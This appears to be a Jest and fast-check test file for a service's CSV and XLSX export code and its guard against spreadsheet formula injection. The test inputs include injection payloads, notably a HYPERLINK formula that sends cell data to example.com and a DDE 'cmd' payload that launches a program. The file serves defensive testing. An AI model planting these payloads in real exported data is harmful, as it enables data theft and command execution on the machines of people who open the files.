import { describe, expect, it } from '@jest/globals'
import fc from 'fast-check'
import { guardCell } from '../../../../services/api/exports/csv-guard.ts'
import type { Cell, Sheet, SheetFile } from '../../../../services/api/exports/sheet.ts'
import { writeCsv } from '../../../../services/api/exports/write-csv.ts'
import { writeXlsx } from '../../../../services/api/exports/write-xlsx.ts'
import { readCsv } from '../../../support/read-csv.ts'
import { readXlsx } from '../../../support/read-xlsx.ts'

const nasty = [
  '=1+1',
  '=HYPERLINK("http://example.com/?"&A1,"x")',
  "=cmd|' /C calc'!A0",
  '@SUM(1)',
  '+A1',
  '-2+3+cmd',
  '+55 (11) 99999-8888',
  '+5511999998888',
  '-1',
  '-0.5',
  '\t=1',
  '\r=1',
  '\n=1',
  ' =1',
  "'=1",
  "''=1",
  '"=1',
  '＝1',
  '\ufeff=1',
  'Ana;=1+1',
  'Ana;"=1+1";',
  'Ana\n=1+1',
  'Ana\t-A1',
  'a,b',
  'He said "no"',
  'line\r\nbreak',
  'lone\rreturn',
  'nul\0inside',
  '\0=1',
  'João Conceição',
  'محمد ‏(RTL)‎',
  '👩‍👩‍👧‍👦 🏳️‍🌈',
  '_x000D_',
  '_x005F_x000D_',
  '_x0041',
  '\ufffe\uffff',
  '  spaces  ',
  '<b>&amp;</b>]]>',
  '',
  '0012',
  '1e5',
  'x'.repeat(10_000),
]
const piece = fc.oneof(
  fc.constantFrom(...nasty),
  fc.string({ unit: 'grapheme', maxLength: 20 }),
  fc.string({ unit: fc.constantFrom(...'=+-@\t\r\n;,"\' 0a_x\ufeff\0＝'), maxLength: 12 }),
)
// A database in utf8mb4 holds no halves of surrogate pairs.
const text = fc.oneof(
  piece,
  fc.array(piece, { maxLength: 4 }).map((pieces) => pieces.join('')),
)
const cell: fc.Arbitrary<Cell> = fc.oneof({ weight: 6, arbitrary: text }, fc.integer(), fc.constant(null))
const rows = fc.array(fc.array(cell, { minLength: 3, maxLength: 3 }), { maxLength: 8 })
const headers = ['Opened (America/Sao_Paulo)', 'Name', 'Score']

const sheetOf = (...pages: Cell[][][]): Sheet => ({ headers, pages: pagesOf(pages) })
async function* pagesOf(pages: Cell[][][]) {
  yield* pages
}
async function fileOf({ bytes }: SheetFile): Promise<Buffer> {
  const chunks: Uint8Array[] = []
  for await (const chunk of bytes) chunks.push(chunk)
  return Buffer.concat(chunks)
}

/** What the manifest tells readers to do. */
const unguard = (written: string) =>
  written
    .replace(/(?<=[;\t\r\n])'(?=['" \u00a0\0\u00ad\u200b-\u200f\u2028-\u202e\u2060\ufeff]*[=+\-@＝＋－＠])/g, '')
    .replace(/^'(?=['" \u00a0\0\u00ad\u200b-\u200f\u2028-\u202e\u2060\ufeff]*[=+\-@＝＋－＠\t\r])/, '')

describe('a CSV', () => {
  it('is read back as it was stored, when raw', async () => {
    await fc.assert(
      fc.asyncProperty(rows, async (table) => {
        const file = await fileOf(writeCsv(sheetOf(table), 'raw'))
        expect(file.subarray(0, 3)).toEqual(Buffer.from([0xef, 0xbb, 0xbf]))
        expect(readCsv(file)).toEqual([headers, ...table.map((row) => row.map((value) => String(value ?? '')))])
      }),
      { numRuns: 300 },
    )
  })

  it('is read back as it was stored, when safe and the apostrophes are taken away', async () => {
    await fc.assert(
      fc.asyncProperty(rows, async (table) => {
        const [, ...read] = readCsv(await fileOf(writeCsv(sheetOf(table), 'safe')))
        expect(read.map((row) => row.map(unguard))).toEqual(table.map((row) => row.map((value) => String(value ?? ''))))
      }),
      { numRuns: 300 },
    )
  })

  it('counts the cells that it had to guard', async () => {
    const file = writeCsv(sheetOf([['=1', 'Ana', '+55 11 99999-8888']], [['Ana;=1', -1, null]]), 'safe')
    expect(readCsv(await fileOf(file)).slice(1)).toEqual([
      ["'=1", 'Ana', '+55 11 99999-8888'],
      ["Ana;'=1", '-1', ''],
    ])
    expect(file.notes).toEqual({ guarded: 2, shortened: 0 })
  })
})

describe('a guarded cell', () => {
  it.each(['+5511999998888', '+55 (11) 99999-8888', '+1-202-555-0100', '-1', '-0.5', 'Ana', 'a-b', 'ana@example.com', '', '#1001', '0012'])(
    'is %j itself where nothing can be run',
    (harmless) => {
      expect(guardCell(harmless)).toBe(harmless)
    },
  )

  it.each(['=1+1', '@SUM(1)', '+A1', '-A1', '+cmd|x', '\t=1', '\r=1', '  =1', '"=1', '\ufeff=1', '＝1', '\0=1', "'=1"])(
    'begins with an apostrophe where %j could be run',
    (dangerous) => {
      expect(guardCell(dangerous)[0]).toBe("'")
    },
  )

  it('leaves no formula to a spreadsheet that cuts at semicolons, tabs or line breaks', () => {
    fc.assert(
      fc.property(text, (value) => {
        if (/^[+-][\d ().-]+$/.test(value)) return
        for (const part of guardCell(value).split(/[;\t\r\n]/)) expect(part.replace(/^[" \0\ufeff]+/, '')).not.toMatch(/^[=+\-@＝＋－＠]/)
      }),
      { numRuns: 2_000 },
    )
  })

  it('gets through the worst that a visitor can send: a quadratic one would take minutes', () => {
    for (const worst of [' ', '+', ';', '\t', '; ', "'", '+1', ' ;\r'].map((unit) => unit.repeat(500_000) + 'x'))
      expect(guardCell(worst)).toContain(worst)
  })
})

describe('a workbook', () => {
  it('keeps a text that only what follows it would make the number of a character', async () => {
    const table = [['_x0041\r', '_x0041_', '_x0041\u0000_x005F']]
    const [[, row] = []] = readXlsx(await fileOf(writeXlsx(sheetOf(table), 'Leads')))
    expect(row?.map((cell) => cell?.value)).toEqual(table[0])
  })

  it('is read back as it was stored, every text typed as text', async () => {
    await fc.assert(
      fc.asyncProperty(rows, async (table) => {
        const [sheet = []] = readXlsx(await fileOf(writeXlsx(sheetOf(table), 'Leads')))
        const [head = [], ...read] = sheet
        expect(head.map((found) => found?.value)).toEqual(headers)
        const expected = table
          .map((row) =>
            row.map((value) =>
              value === null ? undefined : { type: typeof value === 'string' ? 'inlineStr' : 'n', value: String(value) },
            ),
          )
          .filter((row) => row.some((value) => value !== undefined))
        expect(read.map((row) => Array.from({ length: 3 }, (_, column) => row[column]))).toEqual(expected)
      }),
      { numRuns: 200 },
    )
  })

  it('says how many texts were longer than a cell can be, and marks where they are cut', async () => {
    const file = writeXlsx(sheetOf([['x'.repeat(32_767), 'y'.repeat(32_765) + '😀z', null]]), 'Leads')
    const [[, row = []] = []] = readXlsx(await fileOf(file))
    expect(row[0]?.value).toBe('x'.repeat(32_767))
    expect(row[1]?.value).toBe('y'.repeat(32_765) + '…')
    expect(file.notes).toEqual({ guarded: 0, shortened: 1 })
  })

  it('asks for a page of rows only when the last one is written', async () => {
    let given = 0
    let written = 0
    let most = 0
    async function* pages() {
      for (let page = 0; page < 200; page++) {
        given++
        most = Math.max(most, given - written)
        yield Array.from({ length: 100 }, (_, index) => [`Person ${page}-${index} ${Math.random()}`, Math.random().toString(36), index])
      }
    }
    let bytes = 0
    for await (const chunk of writeXlsx({ headers, pages: pages() }, 'Leads').bytes) {
      bytes += chunk.length
      written = given
    }
    expect(bytes).toBeGreaterThan(100_000)
    // The compressor takes some dozen pages before it gives anything out.
    expect(most).toBeLessThan(60)
  })
})
